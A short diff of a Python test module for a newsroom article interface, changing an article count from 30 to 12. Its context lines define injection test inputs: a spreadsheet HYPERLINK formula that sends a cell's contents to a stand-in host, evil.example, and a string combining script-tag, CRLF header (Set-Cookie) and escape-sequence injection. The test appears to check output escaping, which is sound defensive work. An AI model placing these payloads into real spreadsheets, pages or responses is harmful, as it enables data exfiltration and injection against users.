@@ -14,7 +14,7 @@ from tests.interfaces.fake_desk import FakeReader
 from tests.interfaces.newsroom import TEXT, bridge_record, make_article, span
 from tests.interfaces.newsroom_happenings import harbour_record
 
-ARTICLES: Final = 30
+ARTICLES: Final = 12
 # What a spreadsheet would run, and what would leave a cell, an element or a header.
 FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 EVIL: Final = "x</title><script>alert(1)</script>]]>&\x1b[31m\u202e\r\nSet-Cookie: a=b"
